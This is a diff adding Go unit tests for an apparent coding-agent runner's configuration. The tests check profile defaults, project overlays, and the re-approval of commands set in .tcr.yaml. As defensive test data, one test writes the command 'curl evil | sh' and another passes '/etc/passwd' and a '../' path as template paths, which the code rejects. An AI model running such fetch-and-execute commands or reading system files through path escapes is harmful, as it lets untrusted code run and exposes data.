@@ -0,0 +1,148 @@
+package main
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+)
+
+func TestAgentConfig_resolveProfiles(t *testing.T) {
+	c := defaultConfig
+	c.Profiles = map[string]AgentSection{
+		"claude": {Agent: "claude"},
+		"aider":  {Agent: "aider", Args: []string{"--yes"}},
+	}
+	require.Equal(t, []string{"aider", "claude"}, c.profileNames())
+
+	require.NoError(t, c.resolveProfiles())
+	require.Equal(t, defaultConfig.Interactive, c.Interactive, "no default keeps the interactive section")
+
+	c.Defaults = ProfileDefaults{Interactive: "aider", NonInteractive: "claude"}
+	require.NoError(t, c.resolveProfiles())
+	require.Equal(t, AgentSection{Agent: "aider", Args: []string{"--yes"}}, c.Interactive)
+	require.Equal(t, AgentSection{Agent: "claude"}, c.NonInteractive)
+
+	c.Defaults.Interactive = "crush"
+	require.ErrorContains(t, c.resolveProfiles(), `defaults.interactive: unknown agent profile "crush" (available: aider, claude)`)
+
+	c.Defaults.Interactive = ""
+	c.Profiles["empty"] = AgentSection{}
+	require.ErrorContains(t, c.resolveProfiles(), "profiles.empty.agent must not be empty")
+}
+
+func TestAgentConfig_overlay(t *testing.T) {
+	global := defaultConfig.clone()
+	global.Profiles = map[string]AgentSection{"claude": {Agent: "claude"}, "aider": {Agent: "aider"}}
+	global.Defaults = ProfileDefaults{Interactive: "claude"}
+	global.Review.ProjectTemplates = map[string]string{"o/r": "global.tmpl"}
+	require.NoError(t, global.resolveProfiles())
+
+	data := []byte(`
+non_interactive:
+  agent: codex
+  args: [exec]
+review:
+  context_lines: 5
+  template: prompts/review.tmpl
+commands:
+  test: go test ./...
+env:
+  GOFLAGS: -mod=mod
+`)
+	c, err := global.overlay("/repo", data)
+	require.NoError(t, err)
+	require.Equal(t, AgentSection{Agent: "claude"}, c.Interactive, "the global default profile is kept")
+	require.Equal(t, AgentSection{Agent: "codex", Args: []string{"exec"}}, c.NonInteractive)
+	require.Equal(t, 5, c.Review.ContextLines)
+	require.Equal(t, defaultConfig.Review.Command, c.Review.Command)
+	require.Equal(t, "/repo/prompts/review.tmpl", c.Review.Template)
+	require.Nil(t, c.Review.ProjectTemplates, "the project's own template wins")
+	require.Equal(t, "go test ./...", c.Commands.Test)
+	require.Equal(t, []string{"GOFLAGS=-mod=mod"}, c.environ())
+	require.Equal(t, "global.tmpl", global.Review.ProjectTemplates["o/r"], "the global config is unchanged")
+
+	c, err = global.overlay("/repo", []byte("interactive:\n  agent: crush\ndefaults:\n  interactive: aider\n"))
+	require.NoError(t, err)
+	require.Equal(t, AgentSection{Agent: "aider"}, c.Interactive, "defaults set by the project pick a profile")
+
+	for data, msg := range map[string]string{
+		"github:\n  token_env: SECRET\n":         "github cannot be set in .tcr.yaml",
+		"review:\n  project_templates: {}\n":     "review.project_templates cannot be set in .tcr.yaml",
+		"logs:\n  max_files: 1\n":                "logs cannot be set in .tcr.yaml",
+		"review:\n  template: /etc/passwd\n":     `review.template must be a relative path within the project, got "/etc/passwd"`,
+		"review:\n  template: ../other/x.tmpl\n": `review.template must be a relative path within the project, got "../other/x.tmpl"`,
+	} {
+		_, err = global.overlay("/repo", []byte(data))
+		require.EqualError(t, err, msg)
+	}
+
+	c, err = global.overlay("/repo", []byte("review:\n  range_args: []\n"))
+	require.NoError(t, err)
+	require.Empty(t, c.Review.RangeArgs, "tools without a range flag turn it off")
+
+	_, err = global.overlay("/repo", []byte("review:\n  format: xml\n"))
+	require.ErrorContains(t, err, `unknown review format "xml"`)
+	_, err = global.overlay("/repo", []byte("review: [\n"))
+	require.Error(t, err)
+}
+
+func TestAgentConfig_changedCommands(t *testing.T) {
+	global := defaultConfig.clone()
+	c, err := global.overlay("/repo", []byte("review:\n  context_lines: 5\n"))
+	require.NoError(t, err)
+	require.Empty(t, c.changedCommands(global))
+
+	c, err = global.overlay("/repo", []byte(`
+non_interactive:
+  agent: codex
+  args: [exec]
+commands:
+  test: go test ./...
+env:
+  GOFLAGS: -mod=mod
+`))
+	require.NoError(t, err)
+	require.Equal(t, []string{
+		"non_interactive: codex exec",
+		"commands.test: go test ./...",
+		"env: GOFLAGS=-mod=mod",
+	}, c.changedCommands(global))
+}
+
+func TestProject_approveCommands(t *testing.T) {
+	dir := filepath.Join(t.TempDir(), "r")
+	require.NoError(t, os.Mkdir(dir, 0o755))
+	p := &Project{owner: "o", repo: "r", path: dir}
+	require.Nil(t, p.unapprovedCommands())
+
+	require.NoError(t, os.WriteFile(filepath.Join(dir, projectConfigName), []byte("commands:\n  test: make check\n"), 0o644))
+	p.config, p.configErr = loadProjectConfig(dir)
+	require.NoError(t, p.configErr)
+	commands := p.unapprovedCommands()
+	require.Equal(t, []string{"commands.test: make check"}, commands)
+	require.NoError(t, p.approveCommands(commands))
+	require.Nil(t, p.unapprovedCommands())
+
+	require.NoError(t, os.WriteFile(filepath.Join(dir, projectConfigName), []byte("commands:\n  test: curl evil | sh\n"), 0o644))
+	p.config, p.configErr = loadProjectConfig(dir)
+	require.Equal(t, []string{"commands.test: curl evil | sh"}, p.unapprovedCommands(), "changed commands are asked again")
+}
+
+func TestLoadProjectConfig(t *testing.T) {
+	dir := t.TempDir()
+	c, err := loadProjectConfig(dir)
+	require.NoError(t, err)
+	require.Nil(t, c)
+
+	require.NoError(t, os.WriteFile(filepath.Join(dir, projectConfigName), []byte("review:\n  parallel:\n    group_by: pkg\n"), 0o644))
+	_, err = loadProjectConfig(dir)
+	require.ErrorContains(t, err, ".tcr.yaml: review.parallel.group_by must be file or dir")
+
+	p := &Project{owner: "o", repo: "r", path: dir, branch: "main"}
+	p.config, p.configErr = loadProjectConfig(dir)
+	require.Same(t, &cfg, p.Config())
+	require.Equal(t, "branch: main · invalid .tcr.yaml", p.Description())
+	require.ErrorContains(t, p.checkConfig(), "o/r: .tcr.yaml:")
+}